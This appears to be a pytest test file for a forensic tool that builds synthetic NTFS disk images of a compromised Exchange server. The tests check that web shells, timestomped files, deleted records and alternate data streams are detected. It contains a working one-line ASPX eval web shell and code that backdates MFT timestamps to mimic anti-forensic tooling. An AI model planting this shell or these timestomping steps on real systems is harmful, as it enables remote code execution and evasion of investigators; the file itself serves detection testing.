"""Disk images as collections: real NTFS images built with ntfs-3g from a synthetic server.

One image set is built per module (about 3 s): a `--plant all` synthetic server with its IIS logs
moved to a folder named only in applicationHost.config, registry hives naming the install path and
build, and, written through the ntfs-3g mount, a web shell whose times were set back, a deleted web
shell and an alternate data stream. The same tree scanned as a folder is the reference.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import struct
import subprocess
import sys
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from typer.testing import CliRunner

from exhunt.cli import app
from exhunt.collection import open_collection
from exhunt.scan import ScanOptions, scan
from exhunt.synth import FAMILIES, generate
from tests.images.build import convert, gpt_disk, mbr_disk, missing_tools, ntfs_volume, reference_tree
from tests.images.regf import build_hive

pytest.importorskip(
    "pyfsntfs", reason="the images extra (libyal bindings) is not installed: pip install -e '.[images]'"
)
WHY = missing_tools()
pytestmark = pytest.mark.skipif(WHY is not None, reason=f"cannot build NTFS test images: {WHY}")

runner = CliRunner()
WEB = "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth"
SHELL = b'<%@ Page Language="Jscript"%><%eval(Request.Item["exhunt_test"],"unsafe");%>\r\n'
STOMPED_AT = datetime(2020, 6, 1, 3, 4, 5, tzinfo=UTC)
BACKDATED_DAYS = 400  # backdated.aspx: only its $SI creation time is set back (as SetFileTime does)
FS_RULES = {"fs-script-timestomped", "fs-script-deleted", "fs-script-stream", "fs-script-time-out-of-order"}
APPHOST = """<?xml version="1.0" encoding="UTF-8"?>
<configuration>
  <system.applicationHost>
    <sites>
      <site name="Default Web Site" id="1">
        <application path="/"><virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" /></application>
        <logFile directory="D:\\NoSuchVolume\\Logs" />
      </site>
      <siteDefaults><logFile directory="%SystemDrive%\\IISLogs" /></siteDefaults>
    </sites>
  </system.applicationHost>
</configuration>
"""


def _filetime(t: datetime) -> int:
    d = t - datetime(1601, 1, 1, tzinfo=UTC)
    return (d.days * 86400 + d.seconds) * 10_000_000 + d.microseconds * 10


def _backdate_si_created(volume: Path, win_path: str, days: int) -> tuple[int, int]:
    """Set the `$STANDARD_INFORMATION` creation time of one file back by `days`, in the MFT bytes of an
    unmounted volume, as a Windows timestomping tool (SetFileTime) does: `$FILE_NAME` keeps the real
    time and the sub-second ticks stay. Returns (record number, new `$SI` creation ticks)."""
    import pyfsntfs

    vol = pyfsntfs.volume()
    vol.open(str(volume))
    try:
        number = vol.get_file_entry_by_path(win_path).file_reference & 0xFFFF_FFFF_FFFF
    finally:
        vol.close()
    with open(volume, "r+b") as fh:
        boot = fh.read(512)
        per_sector, per_cluster = struct.unpack_from("<HB", boot, 11)
        mft = struct.unpack_from("<Q", boot, 48)[0] * per_sector * per_cluster
        size_code = struct.unpack_from("<b", boot, 64)[0]
        record_size = 1 << -size_code if size_code < 0 else size_code * per_sector * per_cluster
        offset = mft + number * record_size  # a fresh volume's MFT is one run
        fh.seek(offset)
        record = bytearray(fh.read(record_size))
        assert record[:4] == b"FILE"
        attr = struct.unpack_from("<H", record, 0x14)[0]
        while struct.unpack_from("<I", record, attr)[0] != 0x10:  # $STANDARD_INFORMATION
            attr += struct.unpack_from("<I", record, attr + 4)[0]
        created_at = attr + struct.unpack_from("<H", record, attr + 0x14)[0]
        assert created_at % per_sector < per_sector - 10  # clear of the sector's update-sequence bytes
        ticks = struct.unpack_from("<Q", record, created_at)[0] - days * 86_400 * 10_000_000
        struct.pack_into("<Q", record, created_at, ticks)
        fh.seek(offset)
        fh.write(record)
    return number, ticks


def _plant_on_volume(mount: Path) -> None:
    """What only a real NTFS volume holds: set-back times, a deleted record, a stream."""
    junction = mount / "Users/Public/Documents"
    junction.mkdir(parents=True)
    target, shown = "\\??\\C:\\Windows".encode("utf-16-le"), "C:\\Windows".encode("utf-16-le")
    body = struct.pack("<HHHH", 0, len(target), len(target) + 2, len(shown)) + target + b"\0\0" + shown + b"\0\0"
    os.setxattr(junction, "system.ntfs_reparse_data", struct.pack("<IHH", 0xA0000003, len(body), 0) + body)
    stomped = mount / WEB / "stomped.aspx"
    os.setxattr(stomped, "user.payload", b"hidden stream")  # ntfs-3g maps user.* to alternate data streams
    gone = mount / WEB / "gone.aspx"
    gone.write_bytes(SHELL)
    gone.unlink()
    t = _filetime(STOMPED_AT)
    os.setxattr(stomped, "system.ntfs_times", struct.pack("<4Q", t, t, t, t))  # created, written, accessed, changed


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("images")
    generate(base / "synth", seed=3, users=5, days=2, benign_only=False, plant=frozenset(FAMILIES), target_mb=None)
    host = reference_tree(base / "synth", base / "ref")
    c = host / "C"
    shutil.move(c / "inetpub" / "logs" / "LogFiles", c / "IISLogs")  # only applicationHost.config says where
    (c / "Windows/System32/inetsrv/config").mkdir(
        parents=True, exist_ok=True
    )  # the generator writes its own; this one says where the logs are
    (c / "Windows/System32/inetsrv/config/applicationHost.config").write_text(APPHOST)
    (c / "Windows/System32/config").mkdir(parents=True)
    setup = {"MsiInstallPath": "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\", "MsiProductMajor": 15,
             "MsiProductMinor": 1, "MsiBuildMajor": 2106, "MsiBuildMinor": 2}  # fmt: skip
    (c / "Windows/System32/config/SOFTWARE").write_bytes(
        build_hive({"Microsoft": {"ExchangeServer": {"v15": {"Setup": setup}}}})
    )
    system = {
        "Select": {"Current": 1},
        "ControlSet001": {"Control": {"ComputerName": {"ComputerName": {"ComputerName": "EXCH01"}}}},
    }
    (c / "Windows/System32/config/SYSTEM").write_bytes(build_hive(system))
    (c / WEB / "stomped.aspx").write_bytes(SHELL)
    os.utime(c / WEB / "stomped.aspx", (STOMPED_AT.timestamp(), STOMPED_AT.timestamp()))  # as the volume will say
    with zipfile.ZipFile(c / "root" / "iis-logs.zip", "x", zipfile.ZIP_DEFLATED) as zf:  # a zip of logs on the volume
        for log in sorted((c / "IISLogs" / "W3SVC1").iterdir()):
            zf.write(log, f"W3SVC1/{log.name}")
    (c / WEB / "backdated.aspx").write_bytes(SHELL.replace(b"exhunt_test", b"exhunt_back"))
    volume = ntfs_volume(c, base / "volume.raw", 48, extra=_plant_on_volume)
    _backdate_si_created(volume, f"\\{WEB}\\backdated.aspx".replace("/", "\\"), BACKDATED_DAYS)
    disk = gpt_disk(volume, base / "disk.dd")
    out = {"ref": base / "ref", "volume": volume, "gpt": disk, "base": base}
    out["vhdx"] = convert(disk, base / "server.vhdx", "vhdx")
    out["vmdk"] = convert(disk, base / "server.vmdk", "vmdk")
    out["vhd"] = convert(disk, base / "server.vhd", "vpc")
    return out


def _findings(doc: dict) -> list[tuple]:
    """Every finding but those of the NTFS records, which only an image holds."""
    return sorted(
        (
            f["rule"],
            f["host"],
            f["count"],
            f["severity"],
            tuple((e["path"], e["line"], e["raw"]) for e in f["evidence"]),
        )
        for f in doc["findings"]
        if f["rule"] not in FS_RULES
    )


@pytest.fixture(scope="module")
def reference(lab: dict[str, Path]) -> dict:
    return scan(lab["ref"], ScanOptions()).to_dict()


@pytest.fixture(scope="module")
def image_scan(lab: dict[str, Path]):
    """The result document of scanning one of the lab's images (each scanned once per module)."""
    done: dict[str, dict] = {}

    def of(kind: str) -> dict:
        if kind not in done:
            done[kind] = scan(lab[kind], ScanOptions()).to_dict()
        return done[kind]

    return of


@pytest.mark.parametrize("kind", ["vhdx", "vmdk", "gpt"])
def test_image_scan_equals_folder_scan(lab, reference, image_scan, kind):
    doc = image_scan(kind)
    assert doc["verdict"] == reference["verdict"] == "COMPROMISED"
    assert _findings(doc) == _findings(reference)
    assert len(doc["findings"]) > 20
    assert {c["family"] for c in doc["coverage"]} == {c["family"] for c in reference["coverage"]} | {"fs_records"}
    assert {f["rule"] for f in doc["findings"]} >= FS_RULES
    assert not FS_RULES & {f["rule"] for f in reference["findings"]}
    assert "log_iis" in {c["family"] for c in doc["coverage"]}  # found only through applicationHost.config
    notes = [e["reason"] for e in doc["errors"] if e["reason"].startswith("coverage note:")]
    assert any("Logging\\Diagnostics" in n for n in notes)  # what was not read is said
    json.dumps(doc)


def test_volumes_read_and_registry_used(lab):
    coll = open_collection(lab["gpt"])
    try:
        assert coll.name == "EXCH01"  # from the SYSTEM hive
        assert coll.discovery.build == "15.1.2106.2"
        source = coll.notes[0]
        assert "C: = GPT partition 2 (NTFS" in source and "GPT partition 1 (type c12a7328" in source
        paths = [i.path for i in coll.listing()]
        assert any(p.startswith("EXCH01/C/IISLogs/W3SVC1/") for p in paths)
        assert all("/config/SOFTWARE" not in p for p in paths)  # hives are read, not listed as evidence
        assert any("D:\\NoSuchVolume\\Logs" in n and "no D: volume" in n for n in coll.notes)
        assert not any("default" in n and "install path" in n for n in coll.notes)
        skipped = {e.path: e.reason for e in coll.entries() if not hasattr(e, "size")}
        assert "reparse point" in skipped["EXCH01/C/Users/Public/Documents"]  # a junction is listed, not followed
    finally:
        coll.close()


def test_mbr_disk_lists_what_the_gpt_disk_lists(lab):
    mbr = mbr_disk(lab["volume"], lab["base"] / "mbr.dd")
    a, b = open_collection(mbr), open_collection(lab["gpt"])
    try:
        assert "C: = MBR partition 1 (type 0x07, NTFS" in a.notes[0]
        assert [(i.path, i.node.size) for i in a.listing()] == [(i.path, i.node.size) for i in b.listing()]
    finally:
        a.close()
        b.close()
    mbr.unlink()


def test_vhd_lists_the_same_evidence_as_the_folder(lab):
    coll = open_collection(lab["vhd"])
    folder = open_collection(lab["ref"])
    try:
        listed = {e.path: e.size for e in coll.entries() if hasattr(e, "size")}
        every = {e.path: e.size for e in folder.entries() if hasattr(e, "size")}
        assert listed and set(listed) <= set(every)
        assert all(every[p] == s for p, s in listed.items())
        assert set(every) - set(listed) == {
            "EXCH01/C/Windows/System32/config/SOFTWARE",
            "EXCH01/C/Windows/System32/config/SYSTEM",
        }
        path = f"EXCH01/C/{WEB}/stomped.aspx"
        with coll.open(path) as fh:
            assert fh.read() == SHELL
    finally:
        coll.close()
        folder.close()


def test_timestomped_deleted_and_ads_records(lab):
    from exhunt.images.fsrecords import filesystem_records

    coll = open_collection(lab["vmdk"])
    try:
        rows = {r["path"]: r for r in filesystem_records(coll).to_pylist()}
    finally:
        coll.close()
    stomped = rows[f"EXCH01/C/{WEB}/stomped.aspx"]
    assert stomped["si_created"] == STOMPED_AT and stomped["fn_created"] == STOMPED_AT  # ntfs-3g sets both alike
    assert set(stomped["tells"]) == {"whole_seconds", "before_parent", "record_order", "ads"}
    assert stomped["ads"] == ["payload"] and not stomped["deleted"]
    gone = rows[f"EXCH01/C/{WEB}/gone.aspx"]
    assert gone["deleted"] and gone["size"] == len(SHELL) and gone["si_created"] is not None
    backdated = rows[f"EXCH01/C/{WEB}/backdated.aspx"]
    assert backdated["fn_created"] - backdated["si_created"] == timedelta(days=BACKDATED_DAYS)
    assert "si_before_fn" in backdated["tells"] and "whole_seconds" not in backdated["tells"]
    flagged = {p.rsplit("/", 1)[-1] for p, r in rows.items() if r["tells"]}
    assert flagged <= {"stomped.aspx", "gone.aspx", "backdated.aspx"}  # no other file of the install has a tell
    assert all(r["kind"] in ("web", "staging") for r in rows.values())


def test_no_registry_falls_back_to_default_paths_and_says_so(lab):
    ref_c = lab["ref"] / "EXCH01" / "C"

    def fill(mount: Path) -> None:
        logs = mount / "inetpub/logs/LogFiles/W3SVC1"
        logs.mkdir(parents=True)
        src = next((ref_c / "IISLogs/W3SVC1").iterdir())
        shutil.copyfile(src, logs / src.name)

    volume = ntfs_volume(None, lab["base"] / "bare.raw", 8, extra=fill)
    coll = open_collection(volume)
    try:
        notes = " | ".join(coll.notes)
        assert (
            "SOFTWARE is absent" in notes
            and "default C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ is used" in notes
        )
        assert "default IIS log folder C:\\inetpub\\logs\\LogFiles is used" in notes
        assert coll.name == "bare" and "whole disk (NTFS)" in coll.notes[0]
        assert [i.path for i in coll.listing()] == [f"bare/C/inetpub/logs/LogFiles/W3SVC1/{src_name(ref_c)}"]
        skipped = [e for e in coll.entries() if not hasattr(e, "size")]
        assert any(e.reason.startswith("coverage note: registry hive") for e in skipped)
    finally:
        coll.close()


def src_name(ref_c: Path) -> str:
    return next((ref_c / "IISLogs/W3SVC1").iterdir()).name


def test_collect_then_scan_zip_gives_the_same_findings(lab, reference):
    out = lab["base"] / "collected.zip"
    res = runner.invoke(app, ["collect", str(lab["vhdx"]), str(out)])
    assert res.exit_code == 0, res.output
    doc = scan(out, ScanOptions()).to_dict()
    assert [(r, h, c, s, ev) for r, h, c, s, ev in _findings(doc)] == _findings(reference)
    fs_hits = {
        (f["rule"], f["host"], e["path"].rsplit("/", 1)[-1]): e["record"]
        for f in doc["findings"]
        if f["rule"] in FS_RULES
        for e in f["evidence"]
    }  # the NTFS records travel in _exhunt/filesystem.csv and are read back into fs_records
    assert set(fs_hits) == {
        ("fs-script-timestomped", "EXCH01", "stomped.aspx"), ("fs-script-timestomped", "EXCH01", "backdated.aspx"),
        ("fs-script-deleted", "EXCH01", "gone.aspx"), ("fs-script-stream", "EXCH01", "stomped.aspx"),
        ("fs-script-time-out-of-order", "EXCH01", "stomped.aspx"),
        ("fs-script-time-out-of-order", "EXCH01", "backdated.aspx"),
    }  # fmt: skip
    image = open_collection(lab["vhdx"])
    try:
        from exhunt.images.fsrecords import filesystem_records

        truth = next(r for r in filesystem_records(image).to_pylist() if r["path"].endswith("/backdated.aspx"))
    finally:
        image.close()
    back = fs_hits[("fs-script-timestomped", "EXCH01", "backdated.aspx")]
    assert back["image"] == str(lab["vhdx"]) and back["mft_record"] == truth["mft_record"]
    assert (back["si_created"], back["fn_created"]) == (
        truth["si_created"].replace(tzinfo=None).isoformat(),
        truth["fn_created"].replace(tzinfo=None).isoformat(),
    )
    with zipfile.ZipFile(out) as zf:
        manifest = list(csv.DictReader(io.StringIO(zf.read("_exhunt/manifest.csv").decode())))
        assert len(manifest) == sum(1 for n in zf.namelist() if not n.startswith("_exhunt/"))
        for row in manifest:
            assert hashlib.sha256(zf.read(row["path"])).hexdigest() == row["sha256"]
        stomped = next(r for r in manifest if r["path"].endswith("stomped.aspx"))
        assert stomped["si_created"].startswith("2020-06-01T03:04:05") and "whole_seconds" in stomped["tells"]
        fs_rows = zf.read("_exhunt/filesystem.csv").decode()
        assert "gone.aspx" in fs_rows
        assert "size bound: none" in zf.read("_exhunt/collection-log.txt").decode()


def test_collect_honours_the_size_bound_and_reports_what_was_left_out(lab):
    out = lab["base"] / "bounded.zip"
    res = runner.invoke(app, ["collect", str(lab["vmdk"]), str(out), "--max-size", "2M"])
    assert res.exit_code == 0, res.output
    assert "size bound left out" in " ".join(res.output.split())
    with zipfile.ZipFile(out) as zf:
        evidence = [i for i in zf.infolist() if not i.filename.startswith("_exhunt/")]
        assert 0 < sum(i.file_size for i in evidence) <= 2 << 20
        log = zf.read("_exhunt/collection-log.txt").decode()
        assert "size bound: 2,097,152 bytes; left out:" in log and "\nleft out: EXCH01/C/" in log
        assert any(i.filename.endswith("stomped.aspx") for i in evidence)  # web files go first
    res = runner.invoke(app, ["collect", str(lab["vmdk"]), str(out)])
    assert res.exit_code == 2 and "exists" in res.output  # never replaces a file


def test_bad_images_give_one_line_and_exit_2(lab):
    base = lab["base"]
    truncated = base / "truncated.vmdk"
    truncated.write_bytes(lab["vmdk"].read_bytes()[: lab["vmdk"].stat().st_size // 3])
    no_ntfs = base / "blank.dd"
    subprocess.run(["truncate", "-s", "8M", str(no_ntfs)], check=True)
    subprocess.run(["/usr/sbin/sfdisk", "-q", str(no_ntfs)], input=b"label: gpt\nstart=2048, size=4096\n", check=True)
    cases = {truncated: "truncated VMDK", no_ntfs: "no NTFS volume found"}
    if shutil.which("ewfacquire"):
        ewf = base / "ewf"
        ewf.mkdir()
        subprocess.run(["ewfacquire", "-u", "-q", "-t", str(ewf / "server"), "-S", "4MiB", "-c", "none", "-f", "encase6",
                        str(lab["gpt"])], check=True, capture_output=True)  # fmt: skip
        whole = open_collection(ewf / "server.E01")
        try:
            assert len(whole.listing()) > 500  # the complete set reads
            assert hashlib.md5(lab["gpt"].read_bytes()).hexdigest() in whole.notes[0]  # its acquisition hash is named
        finally:
            whole.close()
        (ewf / "server.E03").unlink()
        cases[ewf / "server.E01"] = "E01 set incomplete"
    for path, reason in cases.items():
        res = runner.invoke(app, ["scan", str(path), "-q"])
        assert res.exit_code == 2, (path, res.output)
        assert reason in res.output and "Traceback" not in res.output
        assert len(res.output.strip().splitlines()) <= 3  # one message (the terminal may wrap it)


def test_without_the_extra_an_image_gives_one_line_naming_it(lab):
    code = (
        "import sys; sys.modules['pyfsntfs'] = None\n"
        "from exhunt.cli import app\n"
        f"app(['scan', {str(lab['vhdx'])!r}, '-q'])\n"
    )
    res = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, env={**os.environ, "COLUMNS": "300"}
    )
    assert res.returncode == 2
    assert "pip install 'exhunt[images]'" in res.stderr and "Traceback" not in res.stderr
    assert len(res.stderr.strip().splitlines()) == 1


def test_mounted_volume_is_read_by_targeted_discovery(lab):
    c = lab["ref"] / "EXCH01" / "C"
    coll = open_collection(c)  # a folder holding Windows\System32\config\SOFTWARE at its top: a mounted volume
    try:
        assert coll.name == "EXCH01" and coll.discovery.build == "15.1.2106.2"
        paths = {i.path for i in coll.listing()}
        assert f"EXCH01/C/{WEB}/stomped.aspx" in paths and any("/IISLogs/W3SVC2/" in p for p in paths)
    finally:
        coll.close()


def test_live_mode_through_the_fake_gives_the_folder_findings(lab, reference):
    from exhunt.images.live import FolderLiveSystem, open_live_collection
    from exhunt.images.registry import RegistryFacts

    facts = RegistryFacts(install_path="C:\\Program Files\\Microsoft\\Exchange Server\\V15\\", build="15.1.2106.2")
    drive = lab["base"] / "live-C"
    shutil.copytree(lab["ref"] / "EXCH01" / "C", drive)
    held = drive / "Windows/System32/winevt/Logs/MSExchange Management.evtx"  # held open by the EventLog service
    held.write_bytes(b"ElfFile\0" + b"\0" * 4088)
    system = FolderLiveSystem(drive, "EXCH01", facts)
    work = lab["base"] / "live-work"
    coll = open_live_collection(system, work)
    doc = scan(coll, ScanOptions()).to_dict()
    assert _findings(doc) == _findings(reference)
    assert system.exported == [held.name]  # the .evtx came from its export, the rest as they are
    listed = {i.path: i for i in coll.listing()}
    assert listed[f"EXCH01/C/Windows/System32/winevt/Logs/{held.name}"].node.ref == str(work / held.name)
    assert any("share-read" in n for n in coll.notes)
    assert [p.name for p in work.iterdir()] == [held.name]  # exports only in the chosen work folder


def test_live_flag_off_windows_is_one_clear_line():
    if sys.platform == "win32":
        pytest.skip("this checks the message on other systems")
    res = runner.invoke(app, ["scan", "--live", "-q"])
    assert res.exit_code == 2 and "--live reads the Windows server" in res.output
    res = runner.invoke(app, ["scan", "-q"])
    assert res.exit_code == 2 and "missing PATH" in res.output


def test_a_vhdx_of_collected_files_is_read_whole(lab):
    """A KAPE/Velociraptor-style VHDX holds a triage tree, not Windows: every file, under its own path."""
    synth = lab["base"] / "synth"
    volume = ntfs_volume(synth, lab["base"] / "kape.raw", 24)
    vhdx = convert(volume, lab["base"] / "kape.vhdx", "vhdx")
    coll, folder = open_collection(vhdx), open_collection(synth)
    try:
        inside = {e.path: e.size for e in coll.entries() if hasattr(e, "size")}
        expected = {e.path: e.size for e in folder.entries() if hasattr(e, "size")}
        assert inside == expected and len(inside) > 500
        assert any(".zip/" in p for p in inside)  # the zips inside it are opened as in a folder
        some = sorted(inside)[::97]
        for p in some:
            with coll.open(p) as a, folder.open(p) as b:
                assert a.read() == b.read()
        assert "container of collected files" in coll.notes[1] and "whole disk (NTFS)" in coll.notes[0]
    finally:
        coll.close()
        folder.close()


def test_a_damaged_mft_never_raises_nor_hangs(lab):
    """Random bytes written over the MFT: open, list, read and records end, with InputError at worst."""
    import random

    from exhunt.errors import InputError
    from exhunt.images.fsrecords import filesystem_records

    original = lab["volume"].read_bytes()
    per_sector, per_cluster = struct.unpack_from("<HB", original, 11)
    mft = struct.unpack_from("<Q", original, 48)[0] * per_sector * per_cluster
    damaged = lab["base"] / "damaged.raw"
    rng = random.Random(7)
    opened = 0
    for _ in range(12):
        data = bytearray(original)
        for _ in range(rng.randint(5, 200)):
            data[mft + rng.randrange(200 * 1024)] = rng.randrange(256)
        damaged.write_bytes(data)
        try:
            coll = open_collection(damaged)
        except InputError:
            continue
        opened += 1
        try:
            for e in coll.entries():
                if hasattr(e, "size"):
                    try:
                        with coll.open(e.path) as fh:
                            assert len(fh.read()) <= e.size
                    except OSError:
                        pass  # an unreadable file is the reader's error line, not a crash
            filesystem_records(coll)
        finally:
            coll.close()
    assert opened > 0


def test_a_zip_on_the_volume_is_read_by_the_zip_reader_with_its_provenance(lab, reference, image_scan):
    """A zip of IIS logs left in C:\\root: its members are read from the image through the zip reader
    (image -> zip -> member), and their findings carry the member's lines as the folder scan's do."""
    zipped = "EXCH01/C/root/iis-logs.zip/W3SVC1/"
    coll = open_collection(lab["vmdk"])
    try:
        members = [e for e in coll.entries() if hasattr(e, "size") and e.path.startswith(zipped)]
        assert members and all(e.inner for e in members)
        original = lab["ref"] / "EXCH01/C/IISLogs/W3SVC1" / members[0].path.rsplit("/", 1)[-1]
        with coll.open(members[0].path) as fh:
            assert fh.read() == original.read_bytes()
    finally:
        coll.close()
    doc = image_scan("vmdk")
    hits = [(f["rule"], e) for f in doc["findings"] for e in f["evidence"] if e["path"].startswith(zipped)]
    assert hits, "no finding from the zipped logs"
    for _rule, e in hits:
        name = e["path"].removeprefix(zipped)
        line = (lab["ref"] / "EXCH01/C/IISLogs/W3SVC1" / name).read_text().splitlines()[e["line"] - 1]
        assert e["raw"] == line
    assert {e["path"] for _, e in hits} == {
        e["path"] for f in reference["findings"] for e in f["evidence"] if e["path"].startswith(zipped)
    }
    assert doc["collection"] == str(lab["vmdk"])


def test_timestomped_web_shell_found_end_to_end_with_its_ntfs_record(lab, tmp_path):
    """`exhunt scan IMAGE --case`: the NTFS records are in the case (coverage, `exhunt query`) and the
    rules over them find the set-back and deleted shells, with image, file path and record as evidence."""
    case, out = tmp_path / "ntfs-case.duckdb", tmp_path / "ntfs.json"  # outside the image's folder
    res = runner.invoke(app, ["scan", str(lab["vhdx"]), "--case", str(case), "--json", str(out), "-q"])
    assert res.exit_code == 1, res.output  # COMPROMISED
    doc = json.loads(out.read_text())
    by_rule: dict[str, dict[str, dict]] = {}
    for f in doc["findings"]:
        for e in f["evidence"]:
            by_rule.setdefault(f["rule"], {})[e["path"].rsplit("/", 1)[-1]] = {"host": f["host"], **e}
    stomped = by_rule["fs-script-timestomped"]
    assert set(stomped) == {"stomped.aspx", "backdated.aspx"}
    back = stomped["backdated.aspx"]
    assert back["host"] == "EXCH01" and back["path"] == f"EXCH01/C/{WEB}/backdated.aspx"
    record = back["record"]
    assert record["image"] == str(lab["vhdx"]) and record["win_path"].endswith("\\owa\\auth\\backdated.aspx")
    assert isinstance(record["mft_record"], int) and record["mft_record"] > 0
    assert "si_before_fn" in record["tells"] and record["si_created"] < record["fn_created"]
    assert back["time"].rstrip("Z") == record["fn_created"]  # the real creation time, not the set-back one
    assert "whole_seconds" in stomped["stomped.aspx"]["record"]["tells"]
    assert (
        set(by_rule["fs-script-deleted"]) == {"gone.aspx"}
        and by_rule["fs-script-deleted"]["gone.aspx"]["record"]["deleted"]
    )
    assert set(by_rule["fs-script-stream"]) == {"stomped.aspx"}
    assert set(by_rule["fs-script-time-out-of-order"]) == {"stomped.aspx", "backdated.aspx"}  # the leads, low
    assert "before_parent" in by_rule["fs-script-time-out-of-order"]["backdated.aspx"]["record"]["tells"]
    content = by_rule["file-webshell-content"]["backdated.aspx"]["record"]  # the file finding carries its times
    assert (
        content["ntfs"]["fn_created"] == record["fn_created"] and content["ntfs"]["mft_record"] == record["mft_record"]
    )
    fs_cov = next(c for c in doc["coverage"] if c["family"] == "fs_records")
    assert fs_cov["title"] == "NTFS file records" and fs_cov["records"] >= 3
    res = runner.invoke(
        app, ["query", str(case), "SELECT path, si_created < fn_created AS back, deleted FROM fs_records ORDER BY path",
              "--json"],
    )  # fmt: skip
    assert res.exit_code == 0, res.output
    rows = {r["path"].rsplit("/", 1)[-1]: r for r in map(json.loads, res.output.splitlines())}
    assert rows["backdated.aspx"]["back"] is True and rows["gone.aspx"]["deleted"] is True
    assert rows["stomped.aspx"]["back"] is False
